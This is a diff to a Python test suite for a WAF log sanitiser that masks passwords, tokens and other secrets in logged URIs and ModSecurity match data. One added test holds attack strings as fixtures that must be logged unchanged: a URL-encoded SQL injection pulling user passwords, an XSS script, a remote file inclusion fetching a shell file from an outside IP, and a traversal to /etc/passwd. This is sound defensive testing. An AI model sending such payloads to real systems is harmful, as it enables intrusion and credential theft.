@@ -64,18 +64,93 @@ SECRETS = (
 
 @pytest.mark.parametrize("name", SECRETS)
 def test_the_value_of_a_secret_parameter_is_not_told(name: str) -> None:
-    for uri in (f"/login?{name}={SECRET}&q=1", f"/login?q=1;{name}={SECRET}", f"/login?a&{name}={SECRET}"):
+    for uri in (f"/login?{name}={SECRET}&q=1", f"/login?a&{name}={SECRET}"):
         shown = waf_secrets.uri(uri)
         assert SECRET not in shown
         assert shown.startswith("/login?")
         assert f"{name}=***" in shown
+    assert waf_secrets.uri(f"/login?q=1;{name}={SECRET}") == "/login?q=***"
     data = f"Matched Data: {SECRET} found within ARGS:{name}: {SECRET}"
     assert waf_secrets.matched(data) == ""
 
 
 def test_the_value_of_a_parameter_with_a_very_long_name_is_not_told() -> None:
-    assert waf_secrets.uri(f"/?{'a' * 200}={SECRET}").endswith("=***")
+    assert waf_secrets.uri(f"/?{'a' * 200}={SECRET}").endswith("***")
     assert waf_secrets.matched(f"Matched Data: x found within ARGS:{'a' * 200}: x") == ""
+
+
+@pytest.mark.parametrize(
+    ("asked", "shown"),
+    [
+        ("/a;jsessionid=SECRET?x=1", "/a;***?x=1"),
+        ("/a;SECRET/b", "/a;***/b"),
+        ("/cb?next=/x?token=SECRET", "/cb?next=***"),
+        ("/cb?next=%2Fx%3Ftoken%3DSECRET", "/cb?next=***"),
+        ("/cb?next=%25252Fx%25253Ftoken%25253DSECRET", "/cb?next=***"),
+        ('/g?v={"password":"SECRET"}', "/g?v=***"),
+        ("/g?v=%7B%22password%22%3A%20%22SECRET%22%7D", "/g?v=***"),
+        ('/g?{"password":"SECRET"}', "/g?***"),
+        ("/g?SECRET", "/g?***"),
+        ("/x#access_token=SECRET", "/***"),
+        ("//u:SECRET@h/", "//***/"),
+        ("/a/http://u:SECRET@h/x", "/a/http://h/x"),
+        ("/a?x=1%26password=SECRET", "/a?x=***"),
+        ("/p?url=http://u:SECRET@h/x", "/p?url=***"),
+        ("/p?q=Bearer%20SECRET", "/p?q=***"),
+        ("/p?q=basic+SECRET", "/p?q=***"),
+        ("/p?pass=a;SECRET", "/p?pass=***"),
+        ("/p%3Ftoken=SECRET", "/***"),
+        ("/p%3FSECRET", "/***"),
+        ("/api/token/SECRET", "/api/token/***"),
+        ("/reset-password/SECRET/", "/reset-password/***/"),
+        ("/r?%ff=SECRET&q=1", "/r?***&q=1"),
+        ("/r?ticket=SECRET&mfa=SECRET&bearer=SECRET", "/r?ticket=***&mfa=***&bearer=***"),
+    ],
+)
+def test_a_secret_has_no_place_in_a_target_to_hide(asked: str, shown: str) -> None:
+    assert waf_secrets.uri(asked.replace("SECRET", SECRET)) == shown
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        "/",
+        "/item?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-",
+        "/q?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/p?page=http://203.0.113.9/shell.txt%3F&a=&b=2",
+        "/../../etc/passwd%00.png",
+        "/a:b/c",
+        "http://shop.example.com/a?b=c",
+        "/p?items[]=1&user.name=x&x-y=2",
+    ],
+)
+def test_an_attack_is_told_as_it_was_sent(asked: str) -> None:
+    assert waf_secrets.uri(asked) == asked
+
+
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("ARGS:id", "ARGS:id"),
+        ("ARGS:json.user[0].id", "ARGS:json.user[0].id"),
+        ("ARGS:password", "ARGS:password"),
+        ("REQUEST_HEADERS:User-Agent", "REQUEST_HEADERS:User-Agent"),
+        ("REQUEST_BODY", "REQUEST_BODY"),
+        ('ARGS_NAMES:{"user":"a","password":"SECRET"}', "ARGS_NAMES:***"),
+        ('ARGS:{"pw":"SECRET"}', "ARGS:***"),
+        ("SECRET and more", "***"),
+    ],
+)
+def test_a_name_that_may_be_a_body_is_not_told(name: str, shown: str) -> None:
+    data = f"Matched Data: x found within {name.replace('SECRET', SECRET)}: x"
+    record = json.loads(json.dumps(MODSECURITY))
+    record["transaction"]["messages"] = [
+        {"message": "m", "details": {"ruleId": "942100", "severity": "2", "data": data}}
+    ]
+    assert SECRET not in told(record)
+    [event] = parse(json.dumps(record).encode(), 10)
+    assert isinstance(event, WafEvent)
+    assert event.describe()["variable"] == shown
 
 
 def test_who_asks_by_an_absolute_address_gives_no_password_away() -> None:
@@ -93,6 +168,9 @@ def test_who_asks_by_an_absolute_address_gives_no_password_away() -> None:
         ("Matched Data: x found within REQUEST_BODY: x", ""),
         ("Matched Data: x found within XML:/*: x", ""),
         ("Matched Data: x found within ARGS:my password: x", ""),
+        ('Matched Data: "password":"x" found within ARGS:q: x', ""),
+        ('Matched Data: x found within ARGS:{"a":"b"}: x', ""),
+        ("Matched Data: x found within ARGS_NAMES:x: x", ""),
         # The client wrote a variable's name into what was found.
         ("Matched Data: x found within ARGS:q: y found within ARGS:password: z", ""),
         ("something else", ""),
